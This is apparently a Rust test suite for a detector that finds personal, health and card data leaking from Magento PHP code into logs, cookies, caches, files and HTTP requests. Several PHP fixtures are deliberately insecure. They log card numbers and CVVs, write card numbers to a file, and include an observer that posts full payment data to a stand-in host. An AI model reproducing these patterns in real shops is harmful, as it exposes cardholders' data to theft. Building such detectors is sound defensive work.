//! Family 3: personal and card data reaching sinks, and the safe
//! look-alikes a reviewer expects to pass.

use crate::capability::CapabilityKind;
use crate::detector::Sink;
use crate::finding::{Confidence, Severity};
use crate::Detector;

use super::super::PhpDetector;
use super::{capabilities, found, pairs, scan, the};

/// A class with a logger, Magento's Curl client, a cookie manager, a
/// cache and an encryptor injected, around `body` (which starts on line 16).
fn class(body: &str) -> String {
    format!(
        r#"<?php
namespace Vendor\Module\Model;

use Magento\Customer\Api\Data\CustomerInterface;
use Magento\Framework\App\CacheInterface;
use Magento\Framework\Encryption\EncryptorInterface;
use Magento\Framework\HTTP\Client\Curl;
use Magento\Framework\Stdlib\CookieManagerInterface;
use Psr\Log\LoggerInterface;

class Subject
{{
    public function __construct(private LoggerInterface $logger, private Curl $curl,
        private CookieManagerInterface $cookies, private CacheInterface $cache,
        private EncryptorInterface $encryptor, private \Magento\Framework\App\RequestInterface $request) {{}}
{body}
}}
"#
    )
}

fn flows(body: &str) -> Vec<(String, u32)> {
    found("Model/Subject.php", &class(body))
}

#[test]
fn a_customer_email_written_to_the_log_is_phi_to_log() {
    let body = r#"    public function run(CustomerInterface $customer): void
    {
        $this->logger->info('Signed in: ' . $customer->getEmail());
    }"#;
    assert_eq!(flows(body), pairs(&[("phi-to-log", 18)]));
    let sink = scan("Model/Subject.php", &class(body));
    let finding = the(&sink, "phi-to-log");
    assert_eq!(
        finding.message,
        "customer email (getEmail) reaches LoggerInterface::info"
    );
    assert_eq!((finding.severity, finding.cwe), (Severity::High, Some(532)));
}

#[test]
fn a_product_name_in_the_log_is_not_personal_data() {
    let body = r#"    public function run(\Magento\Catalog\Api\ProductRepositoryInterface $products, int $id): void
    {
        $product = $products->getById($id);
        $this->logger->info('Added ' . $product->getName() . ' for ' . $product->getSku());
    }"#;
    assert_eq!(flows(body), pairs(&[]));
}

#[test]
fn a_card_number_logged_is_critical_but_its_last_four_digits_are_not() {
    let body = r#"    public function run(\Magento\Payment\Model\InfoInterface $payment): void
    {
        $last4 = substr((string) $payment->getCcNumber(), -4);
        $this->logger->debug('card ending ' . $last4);
        $this->logger->debug(sprintf('card %s cvv %s', $payment->getCcNumber(), $payment->getCcCid()));
    }"#;
    assert_eq!(flows(body), pairs(&[("card-data-to-log", 20)]));
    let sink = scan("Model/Subject.php", &class(body));
    assert_eq!(the(&sink, "card-data-to-log").severity, Severity::Critical);
}

#[test]
fn an_encrypted_value_sent_is_clear_but_a_hashed_email_is_still_an_identifier() {
    let body = r#"    public function run(CustomerInterface $customer): void
    {
        $this->curl->post('https://backup.vendor.test/v1', ['e' => $this->encryptor->encrypt($customer->getEmail())]);
        $this->curl->post('https://ads.network.test/match', ['em' => hash('sha256', strtolower($customer->getEmail()))]);
    }"#;
    assert_eq!(flows(body), pairs(&[("phi-to-http", 19)]));
    let sink = scan("Model/Subject.php", &class(body));
    let finding = the(&sink, "phi-to-http");
    assert_eq!(finding.severity, Severity::Medium);
    assert!(
        finding.message.contains("still an identifier"),
        "{}",
        finding.message
    );
    assert_eq!(
        capabilities(&sink, CapabilityKind::Host),
        ["ads.network.test", "backup.vendor.test"]
    );
}

#[test]
fn a_date_of_birth_in_a_cookie_is_reported_but_a_ui_preference_is_not() {
    let body = r#"    public function run(CustomerInterface $customer, $meta): void
    {
        $this->cookies->setPublicCookie('grid_mode', $this->request->getParam('mode'), $meta);
        $this->cookies->setPublicCookie('dob', $customer->getDob(), $meta);
    }"#;
    assert_eq!(flows(body), pairs(&[("phi-to-cookie", 19)]));
}

#[test]
fn a_dumped_customer_in_the_cache_is_phi_to_cache() {
    let body = r#"    public function run(CustomerInterface $customer, array $productIds): void
    {
        $this->cache->save(implode(',', $productIds), 'recent_products');
        $this->cache->save(json_encode($customer->__toArray()), 'customer_' . $customer->getId());
    }"#;
    assert_eq!(flows(body), pairs(&[("phi-to-cache", 19)]));
}

#[test]
fn data_flows_through_string_building_and_serializers() {
    let body = r#"    public function run(CustomerInterface $customer): void
    {
        $name = "{$customer->getFirstname()} {$customer->getLastname()}";
        $parts = [$name, $customer->getTelephone()];
        $line = sprintf('%s', implode(' / ', $parts));
        $this->logger->info(print_r(['line' => $line], true));
        $copy = $line;
        $copy .= '!';
        error_log(var_export(serialize($copy), true));
    }"#;
    assert_eq!(
        flows(body),
        pairs(&[("phi-to-log", 21), ("phi-to-log", 24)])
    );
}

#[test]
fn a_private_method_returning_personal_data_taints_its_callers() {
    let body = r#"    public function run(CustomerInterface $customer): void
    {
        $this->logger->info($this->describe($customer));
        $this->send($customer->getEmail());
    }

    private function describe(CustomerInterface $customer): string
    {
        return $customer->getFirstname() . ' ' . $customer->getLastname();
    }

    private function send(string $value): void
    {
        $this->curl->post('https://crm.partner.test/v1', ['value' => $value]);
    }"#;
    assert_eq!(
        flows(body),
        pairs(&[("phi-to-http", 29), ("phi-to-log", 18)])
    );
    let sink = scan("Model/Subject.php", &class(body));
    let http = the(&sink, "phi-to-http");
    assert!(http.message.contains("through send()"), "{}", http.message);
}

#[test]
fn the_whole_request_logged_is_reported_with_medium_confidence_one_parameter_is_not() {
    let body = r#"    public function run(): void
    {
        $this->logger->info('sort by ' . $this->request->getParam('sort'));
        $this->logger->info('request', $this->request->getParams());
    }"#;
    assert_eq!(flows(body), pairs(&[("phi-to-log", 19)]));
    let sink = scan("Model/Subject.php", &class(body));
    assert_eq!(the(&sink, "phi-to-log").confidence, Confidence::Medium);
}

#[test]
fn health_attributes_by_name_are_sources_and_the_lexicon_is_configurable() {
    let body = r#"    public function run(\Magento\Framework\DataObject $record): void
    {
        $this->logger->info('rx', ['d' => $record->getData('diagnosis')]);
        $this->logger->info('tier', ['t' => $record->getData('loyalty_tier')]);
        $this->logger->info('allergies: ' . $record->getAllergies());
    }"#;
    assert_eq!(
        flows(body),
        pairs(&[("phi-to-log", 18), ("phi-to-log", 20)])
    );

    let custom = PhpDetector::with_phi_terms(["loyalty_tier".to_string()]);
    let mut sink = Sink::default();
    let file = crate::file::SourceFile::new("Model/Subject.php", class(body).into_bytes());
    custom.check(&file, &super::Alone, &mut sink);
    let lines: Vec<u32> = sink.findings.iter().map(|f| f.location.line).collect();
    assert_eq!(lines, [19]);
}

#[test]
fn a_logger_known_only_by_its_name_gives_medium_confidence() {
    let code = r#"<?php
class Helper extends \Magento\Framework\App\Helper\AbstractHelper
{
    public function run($order)
    {
        $this->_logger->debug('order for ' . $order->getCustomerEmail());
    }
}
"#;
    let sink = scan("Helper/Data.php", code);
    let finding = the(&sink, "phi-to-log");
    assert_eq!(
        (finding.location.line, finding.confidence),
        (6, Confidence::Medium)
    );
}

#[test]
fn health_data_in_a_public_file_is_reported_but_a_private_export_is_not() {
    let code = r#"<?php
use Magento\Framework\App\Filesystem\DirectoryList;

class Export
{
    public function __construct(private \Magento\Framework\Filesystem $filesystem) {}

    public function run($row): void
    {
        $media = $this->filesystem->getDirectoryWrite(DirectoryList::MEDIA);
        $media->writeFile('exports/rx.csv', $row->getData('prescription'));
        $private = $this->filesystem->getDirectoryWrite(DirectoryList::VAR_EXPORT);
        $private->writeFile('rx/' . uniqid() . '.csv', $row->getData('prescription'));
    }
}
"#;
    let sink = scan("Model/Export.php", code);
    assert_eq!(
        sink.findings
            .iter()
            .map(|f| (f.code.as_str(), f.location.line))
            .collect::<Vec<_>>(),
        [("phi-to-file", 11)]
    );
    assert_eq!(
        capabilities(&sink, CapabilityKind::FileWrite),
        ["pub/media/exports/rx.csv", "var/export/rx/*.csv"]
    );
}

#[test]
fn card_data_written_to_any_file_is_critical() {
    let code = r#"<?php
function keep(\Magento\Payment\Model\InfoInterface $payment) {
    file_put_contents(BP . '/var/tmp/cards.txt', $payment->getCcNumber() . "\n", FILE_APPEND);
}
"#;
    assert_eq!(
        found("Model/Keep.php", code),
        pairs(&[("card-data-to-file", 3)])
    );
}

#[test]
fn card_fields_copied_into_additional_information_are_persisted_other_fields_are_not() {
    let code = r#"<?php
class Assign extends \Magento\Payment\Observer\AbstractDataAssignObserver
{
    public function execute(\Magento\Framework\Event\Observer $observer)
    {
        $data = $this->readDataArgument($observer);
        $payment = $this->readPaymentModelArgument($observer);
        $payment->setAdditionalInformation('method_title', $data->getData('method_title'));
        $payment->setAdditionalInformation('payment_nonce', $data->getData('additional_data'));
        $payment->setAdditionalInformation('cc_number', $data->getData('additional_data'));
    }
}
"#;
    assert_eq!(
        found("Observer/Assign.php", code),
        pairs(&[("card-data-persisted", 10)])
    );
}

#[test]
fn a_payment_gateway_sends_card_data_to_its_gateway_over_tls_only() {
    let code = r#"<?php
class Authorize implements \Magento\Payment\Gateway\CommandInterface
{
    public function __construct(private \Magento\Framework\HTTP\Client\Curl $curl) {}

    public function execute(array $subject)
    {
        $payment = $subject['payment']->getPayment();
        $this->curl->post('https://api.gateway.test/v1/auth', ['pan' => $payment->getCcNumber()]);
        $this->curl->post('http://legacy.gateway.test/auth', ['pan' => $payment->getCcNumber()]);
    }
}
"#;
    let list = found("Gateway/Command/Authorize.php", code);
    assert!(
        list.contains(&("card-data-to-http".to_string(), 10)),
        "{list:?}"
    );
    assert!(
        !list.contains(&("card-data-to-http".to_string(), 9)),
        "{list:?}"
    );
}

#[test]
fn card_data_sent_from_an_observer_is_card_data_to_http() {
    let code = r#"<?php
class Screen
{
    public function __construct(private \Magento\Framework\HTTP\Client\Curl $curl) {}

    public function execute(\Magento\Framework\Event\Observer $observer)
    {
        $payment = $observer->getEvent()->getPayment();
        $this->curl->post('https://stats.example.test/collect', json_encode($payment->getData()));
    }
}
"#;
    let sink = scan("Observer/Screen.php", code);
    let finding = the(&sink, "card-data-to-http");
    assert_eq!(
        (finding.location.line, finding.severity),
        (9, Severity::Critical)
    );
}

#[test]
fn event_data_read_by_key_is_the_entity_it_names() {
    let code = r#"<?php
class Export implements \Magento\Framework\Event\ObserverInterface
{
    public function __construct(private \Psr\Log\LoggerInterface $logger) {}

    public function execute(\Magento\Framework\Event\Observer $observer)
    {
        $order = $observer->getEvent()->getData('order');
        $this->logger->debug('order placed', $order->getData());
        $this->logger->debug('store', ['id' => $observer->getData('store_id')]);
    }
}
"#;
    assert_eq!(
        found("Observer/Export.php", code),
        pairs(&[("phi-to-log", 9)])
    );
}
